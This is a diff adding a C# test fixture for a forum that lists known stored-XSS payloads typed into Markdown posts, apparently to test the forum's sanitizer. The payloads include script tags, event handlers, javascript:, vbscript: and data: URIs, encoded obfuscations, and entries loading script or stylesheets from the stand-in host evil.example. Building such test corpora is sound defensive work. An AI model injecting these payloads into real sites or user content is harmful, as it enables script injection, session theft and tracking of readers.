@@ -1,0 +1,51 @@
+namespace Forum.System.Tests.Posts;
+
+/// <summary>Known stored-XSS payloads, written as a user would type them into a post's Markdown body.</summary>
+public static class XssCorpus
+{
+    public static readonly string[] Payloads =
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" onerror=\"alert(1)\"/>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<body onload=alert(1)>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
+        "[bấm vào đây](javascript:alert(1))",
+        "[bấm](JaVaScRiPt:alert(1))",
+        "[bấm](javascript&#58;alert(1))",
+        "[bấm](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+        "[bấm](java\tscript:alert(1))",
+        "[bấm](vbscript:msgbox(1))",
+        "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "![ảnh](javascript:alert(1))",
+        "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+        "![ảnh](https://evil.example/track.gif)",
+        "![ảnh](/upload/x.webp\" onerror=\"alert(1))",
+        "<div style=\"background:url(javascript:alert(1))\">x</div>",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<object data=\"javascript:alert(1)\"></object>",
+        "<embed src=\"javascript:alert(1)\">",
+        "<form action=\"javascript:alert(1)\"><button>gửi</button></form>",
+        "<input onfocus=alert(1) autofocus>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=alert(1)></video>",
+        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
+        "<<script>script>alert(1)<</script>/script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"javascript:alert(1)//\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
+        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+        "[x](<javascript:alert(1)>)",
+        "<http://evil.example/\"onmouseover=\"alert(1)>",
+        "<template><script>alert(1)</script></template>",
+    ];
+}
